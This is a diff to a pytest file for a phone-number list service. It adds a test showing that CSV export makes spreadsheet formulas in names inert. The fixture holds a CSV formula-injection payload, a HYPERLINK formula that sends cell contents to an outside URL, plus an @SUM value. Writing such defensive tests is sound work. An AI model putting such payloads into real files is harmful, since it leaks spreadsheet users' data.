@@ -3,6 +3,8 @@ and export, tenancy, and the call core's lookup, line then group, in one indexed
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Callable
 
 import pytest
@@ -251,6 +253,21 @@ def test_an_export_imports_back_to_the_same_list(
     assert service.export_csv(bob.principal, bob_line) == exported
     again = service.import_csv(alice.principal, line, exported.encode())
     assert (again.added, again.updated, again.unchanged, again.rejected) == (0, 0, 3, ())
+
+
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_exported_inert_and_imported_back(
+    service: AbbreviatedNumberService, alice: Customer
+) -> None:
+    group = AbbreviatedList(alice.group)
+    formula = '=HYPERLINK("http://example.com/?leak="&A1;"Dupont")'
+    data = f'7001,0199001001,"{formula.replace(chr(34), chr(34) * 2)}",@SUM(1)\n7002,0199001002,-Martin,Jean-Paul\n'
+    assert service.import_csv(alice.principal, group, data.encode()).added == 2
+    exported = service.export_csv(alice.principal, group)
+    rows = list(csv.reader(io.StringIO(exported)))
+    assert [row[2:] for row in rows] == [["'" + formula, "'@SUM(1)"], ["'-Martin", "Jean-Paul"]]
+    again = service.import_csv(alice.principal, group, exported.encode())
+    assert (again.added, again.updated, again.unchanged) == (0, 0, 2)
+    assert _rows(service, alice, group)[0][2:] == (formula, "@SUM(1)")
 
 
 @pytest.mark.parametrize(
